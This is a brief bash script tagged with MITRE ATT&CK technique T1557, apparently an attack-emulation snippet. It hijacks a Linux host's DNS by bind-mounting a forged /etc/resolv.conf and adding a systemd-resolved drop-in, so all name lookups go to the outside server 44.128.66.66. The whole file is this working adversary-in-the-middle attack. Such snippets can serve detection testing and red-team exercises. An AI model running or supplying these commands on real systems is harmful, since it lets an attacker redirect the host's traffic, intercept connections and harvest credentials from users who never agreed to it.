#!/bin/bash
# T1557: All names are asked of somebody else.
echo 'nameserver 44.128.66.66' >/tmp/r; mount --bind /tmp/r /etc/resolv.conf; mkdir -p /etc/systemd/resolved.conf.d; printf '[Resolve]\nDNS=44.128.66.66\n' >/etc/systemd/resolved.conf.d/x.conf
